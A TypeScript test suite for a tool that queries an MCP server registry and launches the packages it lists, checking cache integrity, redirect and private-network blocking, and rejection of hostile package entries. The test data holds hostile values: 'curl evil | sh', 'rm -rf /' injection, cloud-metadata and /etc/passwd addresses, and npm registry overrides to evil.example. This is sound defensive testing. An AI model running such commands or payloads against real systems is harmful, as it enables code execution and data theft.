// A registry is asked as the official API says, is believed in nothing, and its last answer serves when it cannot be reached.
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, onTestFinished, test } from 'vitest';
import { AnswerCache } from '../../broker/acquire/answer-cache.ts';
import { BundleShelf } from '../../broker/acquire/bundle-shelf.ts';
import { Candidates } from '../../broker/acquire/candidates.ts';
import { download, plainAddress } from '../../broker/acquire/download.ts';
import { Registry } from '../../broker/acquire/registry.ts';
import { type Packaged, readEntry } from '../../broker/acquire/registry-entry.ts';
import { launchOfPackage, launchOfRemote } from '../../broker/acquire/registry-launch.ts';
import { checkLiteral, guardedLookup } from '../../broker/forward/addresses.ts';
import { referenceTo } from '../../shared/secret-reference.ts';

const network = { checkLiteral, lookup: guardedLookup };
const none = { config: {}, secretConfig: {} };
const npxFolder = '/home/ann/gatehouse/npx';

async function serve(
  act: (request: IncomingMessage, response: ServerResponse) => void,
): Promise<{ address: string; close(): Promise<void>; asked: string[] }> {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url ?? '');
    act(request, response);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const close = () =>
    new Promise<void>((resolve) => {
      server.close(() => resolve());
      server.closeAllConnections();
    });
  onTestFinished(close);
  return { address: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, close, asked };
}

const official = 'io.modelcontextprotocol.registry/official';
const weather = {
  server: {
    $schema: 'https://static.modelcontextprotocol.io/schemas/2025-12-11/server.schema.json',
    name: 'io.example/weather',
    title: 'Weather',
    description: 'Forecasts',
    version: '2.3.1',
    packages: [
      {
        ...{ registryType: 'npm', registryBaseUrl: 'https://registry.npmjs.org', identifier: '@example/weather', version: '2.3.1' },
        ...{ runtimeHint: 'npx', transport: { type: 'stdio' } },
        runtimeArguments: [{ type: 'positional', value: '-y' }],
        packageArguments: [
          {
            type: 'named',
            name: '--units',
            value: '{units}',
            variables: { units: { choices: ['metric', 'imperial'], default: 'metric' } },
          },
          { type: 'positional', valueHint: 'place', isRequired: true, description: 'Where' },
        ],
        environmentVariables: [
          { name: 'WEATHER_KEY', isSecret: true, isRequired: true },
          { name: 'LOG', value: 'quiet' },
        ],
      },
    ],
    remotes: [
      {
        type: 'streamable-http',
        url: 'https://{region}.weather.example/mcp',
        variables: { region: { isRequired: true } },
        headers: [{ name: 'Authorization', value: 'Bearer {token}', variables: { token: { isSecret: true, isRequired: true } } }],
      },
    ],
  },
  _meta: { [official]: { status: 'active', publishedAt: '2026-10-02T10:00:00Z', isLatest: true } },
};
const json = (response: ServerResponse, value: unknown, type = 'application/json') =>
  response.writeHead(200, { 'content-type': type }).end(JSON.stringify(value));

function newHome(): string {
  const home = mkdtempSync(join(tmpdir(), 'gatehouse-registry-'));
  onTestFinished(() => rmSync(home, { recursive: true, force: true }));
  return home;
}

test('searched as the API says; offline the last answer comes with its time, and nobody else can write one', async () => {
  const home = newHome();
  const { address, asked, close } = await serve((_, response) =>
    json(response, { servers: [weather, { nonsense: 1 }], metadata: { nextCursor: 'c2' } }),
  );
  let now = Date.parse('2026-11-26T08:00:00Z');
  const registry = new Registry(network, new AnswerCache(home, async () => Buffer.alloc(32, 1)), () => now);
  expect(asked).toEqual([]);
  const first = await registry.search(address, 'weather & more', undefined);
  expect(asked).toEqual(['/v0.1/servers?search=weather+%26+more&version=latest&limit=30']);
  expect(first).toMatchObject({ offline: false, next: 'c2', at: '2026-11-26T08:00:00.000Z' });
  expect(first.entries.map(({ server, status }) => [server.name, status])).toEqual([['io.example/weather', 'active']]);
  await close();
  now += 3_600_000;
  const later = await registry.search(address, 'weather & more', undefined);
  expect(later).toMatchObject({ offline: true, at: '2026-11-26T08:00:00.000Z', why: expect.stringContaining('ECONNREFUSED') });
  expect(later.entries).toEqual(first.entries);
  await expect(registry.search(address, 'other', undefined)).rejects.toThrow(/could not be reached/);
  // An answer that somebody else wrote into the home counts as none.
  const folder = join(home, 'catalogue');
  const [file = ''] = readdirSync(folder);
  writeFileSync(join(folder, file), readFileSync(join(folder, file), 'utf8').replace('@example/weather', '@evil/weather'));
  await expect(registry.search(address, 'weather & more', undefined)).rejects.toThrow(/could not be reached/);
});

test('an answer of another kind, of another server, endless, or from elsewhere is none', async () => {
  const elsewhere = await serve((_, response) => json(response, weather));
  const { address } = await serve((request, response) => {
    const path = decodeURIComponent(request.url ?? '');
    if (path.includes('/html/')) response.writeHead(200, { 'content-type': 'text/html' }).end('<p>');
    else if (path.includes('/moved/')) response.writeHead(302, { location: `${elsewhere.address}/x` }).end();
    else if (path.includes('/loop/')) response.writeHead(302, { location: request.url ?? '' }).end();
    else if (path.includes('/endless/')) {
      response.writeHead(200, { 'content-type': 'application/json' });
      const more = () => {
        if (!response.destroyed && response.write(Buffer.alloc(65_536, 0x20))) setImmediate(more);
        else response.once('drain', more);
      };
      more();
    } else if (path.includes('/broken/')) {
      response.writeHead(200, { 'content-type': 'application/json', 'content-length': '100' }).write('{');
      setTimeout(() => response.destroy(), 20);
    } else if (path.includes('/busy/')) response.writeHead(503).end();
    else if (path.includes('/unknown/')) response.writeHead(404).end();
    else json(response, weather);
  });
  const registry = new Registry(network, new AnswerCache(newHome(), async () => Buffer.alloc(32)), Date.now);
  const show = (id: string) => registry.show(address, id, undefined);
  expect((await show('io.example/weather')).entry.server.version).toBe('2.3.1');
  await expect(show('io.example/other')).rejects.toThrow(/not what a registry/);
  await expect(registry.show(address, 'io.example/weather', '9.9.9')).rejects.toThrow(/not what a registry/);
  await expect(show('x/html/x')).rejects.toThrow(/not what a registry/);
  await expect(show('x/moved/x')).rejects.toThrow(/not followed/);
  await expect(show('x/loop/x')).rejects.toThrow(/on and on/);
  await expect(show('x/endless/x')).rejects.toThrow(/more than \d+ bytes/);
  await expect(show('x/broken/x')).rejects.toThrow(/broke off/);
  await expect(show('x/busy/x')).rejects.toThrow(/HTTP 503/);
  await expect(show('x/unknown/x')).rejects.toThrow(/HTTP 404/);
  expect(elsewhere.asked).toEqual([]);
});

test('no address but https and this computer is asked, whatever a name or a redirect leads to', async () => {
  for (const bad of ['http://example.com', 'ftp://x', 'file:///etc/passwd', 'x', 'https://a:b@example.com'])
    expect(() => plainAddress(bad)).toThrow();
  const get = (text: string, redirects: 'same' | 'any' = 'any') =>
    download(network, { url: new URL(text), mostBytes: 1000, limitMs: 5_000, accept: '*/*', redirects });
  for (const inside of ['https://10.0.0.1/', 'https://169.254.169.254/latest/meta-data', 'https://192.168.1.1/', 'https://[fe80::1]/'])
    await expect(get(inside)).rejects.toThrow(/private network/);
  const secret = await serve((_, response) => response.end('secret'));
  const { address } = await serve((request, response) => {
    const to = request.url === '/meta' ? 'https://169.254.169.254/' : `${secret.address}/`;
    response.writeHead(302, { location: to }).end();
  });
  await expect(get(`${address}/inside`)).rejects.toThrow(/not followed/);
  await expect(get(`${address}/meta`)).rejects.toThrow(/private network/);
  expect(secret.asked).toEqual([]);
});

const npm = weather.server.packages[0] as Packaged;

test('a package runs as one exact version, in words of an argv array, its secret by name', () => {
  const answers = { config: { place: 'Bern; rm -rf /', '--units': 'x' }, secretConfig: { WEATHER_KEY: 'key' } };
  expect(() => launchOfPackage(npm, answers, npxFolder)).toThrow(/does not ask for "--units"/);
  const { fields, missing } = launchOfPackage(npm, none, npxFolder);
  expect(fields.map(({ key, required, secret }) => [key, required, secret])).toEqual([
    ['units.units', false, false],
    ['place', true, false],
    ['WEATHER_KEY', true, true],
  ]);
  expect(missing).toEqual(['place', 'WEATHER_KEY']);
  const launch = launchOfPackage(npm, { config: { place: 'Bern; rm -rf /' }, secretConfig: { WEATHER_KEY: 'key' } }, npxFolder);
  expect(launch).toMatchObject({
    command: 'npx',
    args: ['-y', `--prefix=${npxFolder}`, '@example/weather@2.3.1', '--units', 'metric', 'Bern; rm -rf /'],
    env: { LOG: 'quiet' },
    secretEnv: { WEATHER_KEY: 'key' },
    missing: [],
  });
  expect(() => launchOfPackage(npm, { config: { 'units.units': 'feet' }, secretConfig: {} }, npxFolder)).toThrow(
    /is one of metric, imperial/,
  );
});

const strange: readonly (readonly [string, Partial<Packaged>, RegExp])[] = [
  ['a tag', { version: 'latest' }, /leaves the version open/],
  ['a range', { version: '^1.0.0' }, /leaves the version open/],
  ['a wildcard', { version: '1.x' }, /leaves the version open/],
  ['no version', { version: undefined }, /leaves the version open/],
  ['an option as its name', { identifier: '--registry=https://evil.example' }, /names the package/],
  ['an address as its name', { identifier: 'https://evil.example/x.tgz' }, /names the package/],
  ['a git address', { identifier: 'github:evil/x' }, /names the package/],
  ['another package beside it', { runtimeArguments: [{ type: 'named', name: '--package', value: 'evil' }] }, /make it run something else/],
  ['a shell line', { runtimeArguments: [{ type: 'named', name: '-c', value: 'curl evil | sh' }] }, /make it run something else/],
  [
    'a setting of npm',
    { environmentVariables: [{ name: 'NPM_config_registry', value: 'https://evil.example' }] },
    /make npx run something else/,
  ],
  ['an unknown registry', { registryType: 'cargo' }, /cannot be run here/],
  ['a port of its own', { transport: { type: 'streamable-http', url: 'http://127.0.0.1:1' } }, /listens on a port/],
  ['a secret of the vault', { packageArguments: [{ type: 'positional', value: referenceTo('github-token') }] }, /names a secret/],
  ['a secret as a name', { packageArguments: [{ type: 'named', name: referenceTo('github-token'), value: 'x' }] }, /names a secret/],
  [
    'a secret in two parts',
    {
      packageArguments: [
        { type: 'positional', value: referenceTo('github-token').replace('ret:', '{x}'), variables: { x: { default: 'ret:' } } },
      ],
    },
    /names a secret/,
  ],
  ['a secret as what it proposes', { environmentVariables: [{ name: 'X', default: referenceTo('github-token') }] }, /names a secret/],
  ['an open image', { registryType: 'oci', identifier: 'docker.io/x/y:latest' }, /version open/],
];

test.each(strange)('a package with %s is not run', (_, change, why) => {
  expect(() => launchOfPackage({ ...npm, packageArguments: [], ...change } as Packaged, none, npxFolder)).toThrow(why);
});

test('other runners get theirs', () => {
  const of = (change: Partial<Packaged>) => {
    const { command, args } = launchOfPackage(
      { registryType: 'pypi', identifier: 'weather-mcp', version: '1.2.0', ...change },
      none,
      npxFolder,
    );
    return [command, ...args].join(' ');
  };
  expect(of({})).toBe('uvx weather-mcp@1.2.0');
  expect(of({ registryType: 'nuget', identifier: 'Weather.Mcp', packageArguments: [{ type: 'positional', value: 'x' }] })).toBe(
    'dnx Weather.Mcp@1.2.0 --yes -- x',
  );
  expect(of({ registryType: 'oci', identifier: 'ghcr.io/x/weather', environmentVariables: [{ name: 'A', value: '1' }] })).toBe(
    'docker run -i --rm -e A ghcr.io/x/weather:1.2.0',
  );
});

test('an address takes its variables as parts, and its credential as a secret', () => {
  const remote = readEntry(weather)?.server.remotes?.[0];
  if (!remote) throw new Error('no remote');
  const answers = { config: { region: 'evil.example/#' }, secretConfig: { 'Authorization.token': 'weather-token' } };
  expect(launchOfRemote(remote, answers).remote).toEqual({
    url: 'https://evil.example%2F%23.weather.example/mcp',
    transport: 'http',
    headers: { Authorization: `Bearer ${referenceTo('weather-token')}` },
    secretHeaders: {},
  });
  expect(launchOfRemote(remote, none).missing).toEqual(['region', 'Authorization.token']);
});

test('a bundle that a registry names is fetched only with its hash, and is that or nothing', async () => {
  const { honest, manifest } = await import('./zips.ts');
  const { createHash } = await import('node:crypto');
  const bytes = await honest({ 'manifest.json': String(manifest().content), 'server/index.js': '' });
  const sha256 = createHash('sha256').update(bytes).digest('hex');
  let given: string | undefined = sha256;
  const { address, asked } = await serve((request, response) => {
    if (request.url === '/x.mcpb') return void response.writeHead(200, { 'content-type': 'application/zip' }).end(bytes);
    const packages = [{ registryType: 'mcpb', identifier: `${address}/x.mcpb`, ...(given ? { fileSha256: given } : {}) }];
    json(response, { server: { name: 'io.example/bundle', description: '', version: '1.0.0', packages } });
  });
  const registry = new Registry(network, new AnswerCache(newHome(), async () => Buffer.alloc(32)), Date.now);
  const machine = { platform: 'linux' as const, userHome: '/home/ann' };
  const of = () =>
    new Candidates({
      ...{ registry, network, machine, shelf: new BundleShelf('/nowhere'), address: () => address, now: Date.now, npxFolder },
      integrityInNpm: () => Promise.reject(new Error('nothing of npm here')),
    });
  const candidate = await of().fromRegistry({ id: 'io.example/bundle', ...none });
  expect(candidate).toMatchObject({ bundle: { sha256 }, package: { checked: true }, registry: { id: 'io.example/bundle' } });
  expect(candidate.args).toEqual([`/nowhere/bundles/${sha256}/files/server/index.js`]);
  given = '0'.repeat(64);
  await expect(of().fromRegistry({ id: 'io.example/bundle', ...none })).rejects.toThrow(/not the one the registry describes/);
  given = undefined;
  asked.length = 0;
  await expect(of().fromRegistry({ id: 'io.example/bundle', ...none })).rejects.toThrow(/no way to be run here/);
  await expect(of().fromRegistry({ id: 'io.example/bundle', way: 0, ...none })).rejects.toThrow(/no hash/);
  expect(asked).not.toContain('/x.mcpb');
});
